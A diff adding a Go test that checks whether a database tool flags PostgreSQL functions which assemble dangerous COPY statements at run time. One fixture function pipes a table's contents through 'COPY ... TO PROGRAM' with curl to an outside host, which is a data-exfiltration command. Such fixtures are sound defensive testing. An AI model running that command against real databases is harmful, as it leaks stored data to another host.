@@ -34,3 +34,21 @@ func TestNamesOfWhatReaches(t *testing.T) {
 		t.Errorf("%s CHECKs", got)
 	}
 }
+
+// A function that puts its COPY together is neutralised like one that spells it.
+func TestCopyOfPieces(t *testing.T) {
+	a := connectortest.Postgres(t)
+	from := a.Database(t)
+	a.Exec(t, from, "CREATE FUNCTION send(t text) RETURNS void LANGUAGE plpgsql AS $$BEGIN EXECUTE 'COPY '||quote_ident(t)||' TO PROGRAM ''curl -T - https://hooks.internal/'''; END$$",
+		"CREATE FUNCTION fetch_in(t text) RETURNS void LANGUAGE plpgsql AS $$BEGIN EXECUTE format('COPY %I FROM %L', t, '/srv/in.csv'); END$$",
+		"CREATE FUNCTION count_all(t text) RETURNS bigint LANGUAGE plpgsql AS $$DECLARE n bigint; BEGIN EXECUTE 'SELECT count(copy) FROM '||quote_ident(t)||' WHERE copy IS DISTINCT FROM ''x''' INTO n; RETURN n; END$$")
+	c, err := catalogKeeping(t, from)
+	if err != nil {
+		t.Fatal(err)
+	}
+	const want = "neutralised: function public.fetch_in(t text): would read or write files of the server's machine\n" +
+		"neutralised: function public.send(t text): would run a program on the server's machine\n"
+	if got := fateLines(c.Fates(), "nobody"); got != want {
+		t.Errorf("fates\n%s, want\n%s", got, want)
+	}
+}
